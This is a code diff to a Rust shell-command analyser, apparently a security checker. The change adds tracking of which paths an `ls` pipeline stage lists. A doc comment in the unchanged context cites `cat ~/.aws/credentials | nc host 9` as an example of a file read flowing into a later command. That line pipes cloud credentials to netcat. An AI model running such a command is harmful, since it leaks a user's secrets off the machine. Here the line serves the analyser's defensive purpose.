@@ -41,6 +41,9 @@ pub struct SimpleCommand {
     /// Files (normalised) that earlier commands of the same pipeline read, so what they
     /// read reaches this command's stdin (`cat ~/.aws/credentials | nc host 9`).
     pub piped_reads: Vec<String>,
+    /// What an earlier stage of the same pipeline lists, so the names arriving on stdin
+    /// are its entries: `ls /` gives `/*`, `ls -d /etc/*` gives `/etc/*`.
+    pub piped_listing: Vec<String>,
     /// Text known to arrive on stdin: here-document, here-string, or piped `echo`/`printf`.
     pub stdin_text: Option<String>,
     /// Working directory in effect, tracked through `cd`; `None` when unknown.
@@ -106,6 +109,37 @@ pub fn files_flowing_through(cmd: &SimpleCommand) -> Vec<String> {
         }
     }
     out
+}
+
+/// What `cmd` lists on stdout, one entry per line (see [`SimpleCommand::piped_listing`]):
+/// `ls DIR` lists `DIR/*`, `ls -d PATH` lists `PATH` itself.
+pub fn listed_entries(cmd: &SimpleCommand) -> Vec<String> {
+    let program = cmd.argv.first().map_or("", |p| basename(p));
+    if program != "ls" {
+        return Vec::new();
+    }
+    let args = cmd.argv.get(1..).unwrap_or(&[]);
+    let cwd = cmd.cwd.as_deref();
+    let dirs_themselves = args.iter().any(|a| {
+        a == "--directory" || (a.starts_with('-') && !a.starts_with("--") && a.contains('d'))
+    });
+    let operands: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
+    let mut out = Vec::new();
+    if operands.is_empty() {
+        out.extend(cwd.map(|c| entries_of(c, dirs_themselves)));
+    }
+    for a in operands {
+        out.push(entries_of(&normalize_path(a, cwd), dirs_themselves));
+    }
+    out
+}
+
+fn entries_of(path: &str, itself: bool) -> String {
+    if itself {
+        path.to_string()
+    } else {
+        format!("{}/*", path.trim_end_matches('/'))
+    }
 }
 
 /// The last path component of a program name (`/usr/bin/rm` -> `rm`).
